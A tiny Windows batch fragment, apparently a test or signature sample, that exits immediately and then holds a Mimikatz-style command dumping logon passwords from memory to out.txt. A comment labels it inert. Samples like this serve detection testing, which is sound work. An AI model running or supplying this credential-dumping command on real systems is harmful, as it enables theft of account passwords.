exit /b
rem inert sample
m.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > out.txt
